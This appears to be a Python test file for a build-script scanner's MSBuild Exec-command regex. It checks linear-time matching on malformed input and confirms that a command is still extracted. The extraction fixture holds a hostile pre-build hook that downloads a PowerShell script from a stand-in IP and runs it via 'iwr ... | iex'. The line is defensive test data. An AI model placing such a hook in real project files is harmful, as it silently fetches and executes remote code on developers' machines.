"""MSBuild Exec commands are found in time linear in the file: a file of many `<Exec` openings without `>` made the
command pattern rescan the rest of the file for each one (8,000 of them took 6.6 s)."""
from __future__ import annotations

import time

from codescan.analyze.build_scripts import _EXEC_COMMAND


def _cost(count: int) -> float:
    text = "<Exec a " * count
    start = time.process_time()
    list(_EXEC_COMMAND.finditer(text))
    return time.process_time() - start


def test_many_unclosed_exec_openings_cost_linear_time():
    small, big = _cost(2_000), _cost(16_000)
    # 8x the input: linear is about 8x the time, the old pattern was about 64x
    assert big < max(small, 0.01) * 24, (small, big)


def test_an_exec_command_is_still_read():
    text = ('<Target Name="x" BeforeTargets="Build">\n  <Exec Condition="\'$(OS)\' == \'Windows_NT\'" '
            'Command="powershell -c &quot;iwr http://203.0.113.9/a.ps1 | iex&quot;" />\n</Target>\n')
    found = [m.group(1) for m in _EXEC_COMMAND.finditer(text)]
    assert len(found) == 1 and "iwr http://203.0.113.9/a.ps1" in found[0]
